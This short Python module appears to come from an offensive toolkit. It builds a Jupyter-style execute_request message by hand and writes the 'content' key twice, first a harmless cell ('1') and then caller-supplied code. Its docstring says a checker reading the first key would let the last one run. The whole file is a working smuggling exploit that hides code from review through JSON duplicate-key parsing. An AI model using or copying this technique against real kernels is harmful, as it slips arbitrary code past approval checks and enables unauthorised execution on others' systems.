"""A cell with two contents in one JSON text: whoever judged the first would let the last one run."""

from __future__ import annotations

import json
import uuid

from attack_house import Client, cell


def strike(client: Client, code: str) -> str:
    msg_id = uuid.uuid4().hex
    header = {"msg_id": msg_id, "msg_type": "execute_request", "username": "", "session": client.session,
              "date": "2026-01-01T00:00:00Z", "version": "5.4"}  # fmt: skip
    parts = [f'"{name}": {json.dumps(value)}' for name, value in (
        ("header", header), ("parent_header", {}), ("metadata", {}), ("channel", "shell"), ("buffers", []),
        ("content", cell("1")), ("content", cell(code)),
    )]  # fmt: skip
    client.socket.send("{" + ", ".join(parts) + "}")
    return msg_id
